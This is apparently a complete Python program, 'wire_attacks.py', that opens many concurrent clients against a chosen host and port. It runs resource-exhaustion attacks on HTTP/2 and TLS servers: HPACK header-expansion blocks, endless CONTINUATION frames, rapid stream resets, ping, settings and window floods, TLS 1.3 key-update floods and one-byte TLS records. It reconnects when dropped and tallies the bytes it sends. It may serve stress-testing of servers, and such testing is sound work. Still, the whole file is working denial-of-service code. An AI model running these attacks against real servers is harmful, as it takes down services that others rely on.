"""Clients that obey every rule of HTTP/2 and TLS, but cost far more than they send. This is a program.

    python wire_attacks.py KIND HOST PORT CLIENTS SECONDS

    outbound        sends HEADERS without end and reads nothing: every refused stream leaves a frame that waits
    expanded        header blocks of 31 KiB, each referring to a field of 4,000 bytes 31,000 times
    key_updates     only TLS 1.3 key updates
    small_records   the body of a request in TLS records of one byte

    pings, settings, windows, priorities, unknown, empty_data, resets
                    HTTP/2 frames that begin no request, as many as the socket accepts
    continuations   a header block that never ends, in empty pieces

Prints one line when all clients are connected, and at the end a line of JSON. A client opens a new connection when the
server has ended the old one.
"""

import ctypes
import ctypes.util
import json
import socket
import ssl
import struct
import sys
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field

CONNECT_SECONDS = 5
RETRY_SECONDS = 0.05
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SETTINGS = b"\x00\x00\x00\x04\x00\x00\x00\x00\x00"
# Indexed fields of HPACK's static table, and an authority without indexing.
REQUEST_BLOCK = b"\x82\x86\x84\x01\x01h"
EXPANDED_COUNT = 31_000
EXPANDED_SIZE = 4_000 - 33
# With this interval, four clients together send the measured 0.73 MB/s.
EXPANDED_INTERVAL_SECONDS = 0.17
# The data of a client's first connection is made before the clock starts. Later connections should end soon.
RECORDS_AT_FIRST = 200_000
BODY = 60_000
BODIES_AT_FIRST = 8
RECORDS_LATER = 1_500
PIECE_SIZE = 64 * 1024
# Answers that are not read, 50 per batch: more than the kernel buffers for a client with a small window.
ANSWERED_BATCHES = 60
ANSWERED_INTERVAL_SECONDS = 0.01


@dataclass
class Tally:
    opened: int = 0
    ended: int = 0
    failed: int = 0
    sent_bytes: int = 0
    lock: threading.Lock = field(default_factory=threading.Lock)

    def add(self, **counts: int) -> None:
        with self.lock:
            for name, count in counts.items():
                setattr(self, name, getattr(self, name) + count)

    def report(self) -> str:
        return json.dumps({name: getattr(self, name) for name in ("opened", "ended", "failed", "sent_bytes")})


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload) << 8 | kind) + struct.pack(">BI", flags, stream) + payload


def connect(address: tuple[str, int], receive_size: int | None = None) -> socket.socket:
    connection = socket.socket()
    if receive_size:
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_size)
        connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_MAXSEG, 536)
    connection.settimeout(CONNECT_SECONDS)
    connection.connect(address)
    return connection


# --- HTTP/2 ----------------------------------------------------------------------------------------------------------


def outbound(address: tuple[str, int], is_first: bool) -> Iterator[tuple[socket.socket, bytes]]:
    """Never reads, and never acknowledges the server's SETTINGS. Answers fill the socket, then follow refused
    streams."""
    connection = connect(address, receive_size=1024)
    windows = frame(4, 0, 0, struct.pack(">HI", 4, 2**31 - 1)) + frame(8, 0, 0, struct.pack(">I", 2**31 - 2**16))
    yield connection, PREFACE + windows
    tail = struct.pack(">I", len(REQUEST_BLOCK) << 8 | 1) + b"\x05"
    stream = 1
    for _ in range(ANSWERED_BATCHES):
        numbers = range(stream, stream + 100, 2)
        yield connection, b"".join(tail + struct.pack(">I", number) + REQUEST_BLOCK for number in numbers)
        stream += 100
        time.sleep(ANSWERED_INTERVAL_SECONDS)
    while stream < 2**31 - 8_000:
        numbers = range(stream, stream + 8_000, 2)
        yield connection, b"".join(tail + struct.pack(">I", number) + REQUEST_BLOCK for number in numbers)
        stream += 8_000


def expanded(address: tuple[str, int], is_first: bool) -> Iterator[tuple[socket.socket, bytes]]:
    connection = connect(address)
    yield connection, PREFACE + SETTINGS + frame(4, 1, 0, b"")
    size = EXPANDED_SIZE - 127
    entry = b"\x40\x01x\x7f" + bytes([0x80 | size & 0x7F, size >> 7]) + b"y" * EXPANDED_SIZE
    yield connection, frame(1, 5, 1, REQUEST_BLOCK + entry)
    stream = 3
    while True:
        block = REQUEST_BLOCK + b"\xbe" * EXPANDED_COUNT
        yield connection, frame(1, 1, stream, block[:16_384]) + frame(9, 4, stream, block[16_384:])
        stream += 2
        time.sleep(EXPANDED_INTERVAL_SECONDS)
        drain(connection)


def drain(connection: socket.socket) -> None:
    """Reads the bytes that have arrived. Raises an error if the server has ended the connection."""
    connection.setblocking(False)
    try:
        while True:
            if not connection.recv(65536):
                raise ConnectionAbortedError
    except BlockingIOError:
        connection.settimeout(CONNECT_SECONDS)


# --- TLS -------------------------------------------------------------------------------------------------------------


def small_records(address: tuple[str, int], is_first: bool) -> Iterator[tuple[socket.socket, bytes]]:
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    session = context.wrap_bio(incoming, outgoing)
    connection = connect(address)
    while True:
        try:
            session.do_handshake()
            break
        except ssl.SSLWantReadError:
            connection.sendall(outgoing.read())
            incoming.write(connection.recv(65536))
    connection.sendall(outgoing.read())
    for _ in range(BODIES_AT_FIRST if is_first else 1):
        session.write(b"POST /fps/license HTTP/1.1\r\nHost: a\r\nContent-Length: %d\r\n\r\n" % BODY)
        for _ in range(BODY if is_first else RECORDS_LATER):
            session.write(b"x")
    yield from pieces(connection, outgoing.read())


class OpenSSL:
    """The OpenSSL functions that Python's `ssl` does not offer."""

    def __init__(self) -> None:
        self.library = ctypes.CDLL(ctypes.util.find_library("ssl"))
        self.crypto = ctypes.CDLL(ctypes.util.find_library("crypto"))
        pointers = ("TLS_client_method", "SSL_CTX_new", "SSL_new")
        for name in pointers:
            getattr(self.library, name).restype = ctypes.c_void_p
        for name in ("BIO_new", "BIO_s_mem"):
            getattr(self.crypto, name).restype = ctypes.c_void_p
        self.context = ctypes.c_void_p(self.library.SSL_CTX_new(ctypes.c_void_p(self.library.TLS_client_method())))

    def memory(self) -> ctypes.c_void_p:
        return ctypes.c_void_p(self.crypto.BIO_new(ctypes.c_void_p(self.crypto.BIO_s_mem())))

    def take(self, bio: ctypes.c_void_p) -> bytes:
        taken = []
        buffer = ctypes.create_string_buffer(1 << 20)
        while (count := self.crypto.BIO_read(bio, buffer, len(buffer))) > 0:
            taken.append(buffer.raw[:count])
        return b"".join(taken)


OPENSSL = OpenSSL()


def key_updates(address: tuple[str, int], is_first: bool) -> Iterator[tuple[socket.socket, bytes]]:
    library = OPENSSL.library
    incoming, outgoing = OPENSSL.memory(), OPENSSL.memory()
    session = ctypes.c_void_p(library.SSL_new(OPENSSL.context))
    library.SSL_set_bio(session, incoming, outgoing)
    library.SSL_set_connect_state(session)
    connection = connect(address)
    while library.SSL_do_handshake(session) != 1:
        connection.sendall(OPENSSL.take(outgoing))
        received = connection.recv(65536)
        if not received:
            raise ConnectionAbortedError
        OPENSSL.crypto.BIO_write(incoming, received, len(received))
    connection.sendall(OPENSSL.take(outgoing))
    for _ in range(RECORDS_AT_FIRST if is_first else RECORDS_LATER):
        library.SSL_key_update(session, 0)
        library.SSL_do_handshake(session)
    data = OPENSSL.take(outgoing)
    library.SSL_free(session)
    yield from pieces(connection, data)


def pieces(connection: socket.socket, data: bytes) -> Iterator[tuple[socket.socket, bytes]]:
    # Nothing is sent before the clock starts.
    yield connection, b""
    for start in range(0, len(data), PIECE_SIZE):
        yield connection, data[start : start + PIECE_SIZE]


# --- Floods ----------------------------------------------------------------------------------------------------------


def flood(first: bytes, repeated: bytes):
    """A client that sends the same bytes as long as the socket accepts them, and reads the answers."""

    def kind(address: tuple[str, int], is_first: bool) -> Iterator[tuple[socket.socket, bytes]]:
        connection = connect(address)
        yield connection, first
        piece = repeated * max(1, PIECE_SIZE // 4 // len(repeated))
        while True:
            yield connection, piece
            drain(connection)

    return kind


def numbered(first: bytes, make, step: int = 2):
    """A flood whose pieces each use a new stream."""

    def kind(address: tuple[str, int], is_first: bool) -> Iterator[tuple[socket.socket, bytes]]:
        connection = connect(address)
        yield connection, first
        stream = 1
        while True:
            yield connection, b"".join(make(number) for number in range(stream, stream + 100 * step, step))
            stream += 100 * step
            drain(connection)

    return kind


START = PREFACE + SETTINGS + frame(4, 1, 0, b"")
# A POST without a length: the server waits for its body.
OPEN_BLOCK = b"\x83\x86\x84\x01\x01h"


def reset_at_once(stream: int) -> bytes:
    return frame(1, 5, stream, REQUEST_BLOCK) + frame(3, 0, stream, struct.pack(">I", 8))


FLOODS = {
    "pings": flood(START, frame(6, 0, 0, b"12345678")),
    "settings": flood(START, frame(4, 0, 0, struct.pack(">HI", 4, 65_535))),
    "windows": flood(START, frame(8, 0, 0, struct.pack(">I", 1))),
    "priorities": flood(START, frame(2, 0, 1, struct.pack(">IB", 0, 1))),
    "unknown": flood(START, frame(99, 0, 0, b"")),
    "empty_data": flood(START + frame(1, 4, 1, OPEN_BLOCK), frame(0, 0, 1, b"")),
    "resets": numbered(START, reset_at_once),
    "continuations": flood(START + frame(1, 1, 1, REQUEST_BLOCK), frame(9, 0, 1, b"")),
}
KINDS = {one.__name__: one for one in (outbound, expanded, key_updates, small_records)} | FLOODS


# --- Clients ---------------------------------------------------------------------------------------------------------


def attack(kind: str, address: tuple[str, int], are_there: threading.Barrier, end: list[float], tally: Tally) -> None:
    is_first = True
    while is_first or time.monotonic() < end[0]:
        try:
            sending = KINDS[kind](address, is_first)
            connection, data = next(sending)
        except OSError:
            tally.add(failed=1)
            if is_first:
                are_there.abort()
                return
            time.sleep(RETRY_SECONDS)
            continue
        tally.add(opened=1)
        if is_first:
            is_first = False
            are_there.wait()
        with connection:
            try:
                send(connection, data, tally)
                for connection, data in sending:
                    send(connection, data, tally)
                    if time.monotonic() > end[0]:
                        return
                # Everything is sent. Now the server ends the connection, or the time ends.
                connection.settimeout(max(0.1, end[0] - time.monotonic()))
                while connection.recv(65536):
                    pass
                raise ConnectionAbortedError
            except TimeoutError:
                # The connection is congested. A client that waits has no further cost.
                await_end(connection, end[0], tally)
            except OSError:
                tally.add(ended=1)
        time.sleep(RETRY_SECONDS)


def send(connection: socket.socket, data: bytes, tally: Tally) -> None:
    connection.sendall(data)
    tally.add(sent_bytes=len(data))


def await_end(connection: socket.socket, end: float, tally: Tally) -> None:
    """Waits, without reading, until the server resets the connection or the time ends."""
    while time.monotonic() < end:
        if connection.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
            return tally.add(ended=1)
        time.sleep(0.05)


def main() -> None:
    kind, host, port, count, seconds = sys.argv[1:]
    tally = Tally()
    end = [float("inf")]

    def start_the_clock() -> None:
        end[0] = time.monotonic() + float(seconds)
        print(f"{count} are there", flush=True)

    are_there = threading.Barrier(int(count), action=start_the_clock)
    arguments = (kind, (host, int(port)), are_there, end, tally)
    clients = [threading.Thread(target=attack, args=arguments, daemon=True) for _ in range(int(count))]
    for client in clients:
        client.start()
    for client in clients:
        client.join()
    print(tally.report(), flush=True)


if __name__ == "__main__":
    main()
